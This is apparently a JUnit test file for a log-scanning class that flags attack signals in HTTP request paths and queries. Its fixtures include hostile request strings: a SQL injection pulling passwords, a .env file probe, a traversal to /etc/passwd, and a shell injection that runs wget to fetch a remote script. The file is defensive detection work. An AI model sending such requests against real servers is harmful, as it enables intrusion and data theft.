package dev.logverdict.log;

import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class AttackSignalsTest {

    @Test
    void noTargetPatternHoldsAQuestionMarkSoPathAndQueryCanBeScannedApart() {
        assertThat(AttackSignals.TARGET_PATTERNS.values().stream().flatMap(List::stream))
                .isNotEmpty()
                .noneMatch(pattern -> pattern.contains("?"));
    }

    @Test
    void findsSignalsInThePathInTheQueryAndInBothAtOnce() {
        AttackSignals signals = new AttackSignals();
        assertThat(signalsOf(signals, "/item?id=1%27%20UNION%20SELECT%20password")).isEqualTo(Signal.SQL_INJECTION.bit());
        assertThat(signalsOf(signals, "/.env?x=1")).isEqualTo(Signal.SENSITIVE_FILE_PROBE.bit());
        assertThat(signalsOf(signals, "/wp-login.php?redirect=../../etc/passwd"))
                .isEqualTo(Signal.ADMIN_PROBE.bit() | Signal.PATH_TRAVERSAL.bit());
        // A cached path and a fresh query: the query is still scanned.
        assertThat(signalsOf(signals, "/.env?q=;wget%20http://x/s.sh"))
                .isEqualTo(Signal.SENSITIVE_FILE_PROBE.bit() | Signal.SHELL_INJECTION.bit());
        assertThat(signalsOf(signals, "/search?q=union+station")).isZero();
    }

    private static long signalsOf(AttackSignals signals, String target) {
        byte[] b = target.getBytes(StandardCharsets.US_ASCII);
        int mark = target.indexOf('?') < 0 ? b.length : target.indexOf('?');
        return signals.ofTarget(b, 0, mark, b.length, Hashing.hash(b, 0, mark) | 1);
    }
}
